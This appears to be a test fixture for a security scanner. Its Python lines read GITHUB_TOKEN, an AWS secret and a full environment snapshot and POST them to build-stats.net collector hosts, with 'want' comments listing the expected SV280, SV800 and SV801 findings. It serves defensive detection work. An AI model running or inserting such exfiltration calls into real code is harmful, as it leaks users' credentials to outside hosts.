import json
import os
import urllib.request

import requests

from settings import AWS_SECRET, SNAPSHOT

tok = os.environ["GITHUB_TOKEN"]  # want "SV800: capability read-secret env:GITHUB_TOKEN"
# A request object that is opened is a send: urlopen(Request(url, data=...)).
urllib.request.urlopen(urllib.request.Request("https://collector.build-stats.net/x", data=tok.encode()))  # want "SV800: capability net-fetch collector[.]build-stats[.]net" "SV800: capability net-send collector[.]build-stats[.]net" "medium SV280: sends environment secret GITHUB_TOKEN" "medium SV280: sends environment secret GITHUB_TOKEN" "high SV801: the environment is read in scripts/settings[.]py:4 and another file sends data to collector[.]build-stats[.]net"
req = urllib.request.Request("https://collector.build-stats.net/env", data=json.dumps(SNAPSHOT).encode(), method="POST")  # want "critical SV280: sends the whole environment"
urllib.request.urlopen(req, timeout=10)  # want "critical SV280: sends the whole environment"
requests.post("https://ingest.build-stats.net/k", data={"k": AWS_SECRET})  # want "SV800: capability net-send ingest[.]build-stats[.]net" "medium SV280: sends environment secret AWS_SECRET_ACCESS_KEY" "high SV801: the environment is read in scripts/settings[.]py:4 and another file sends data to ingest[.]build-stats[.]net"
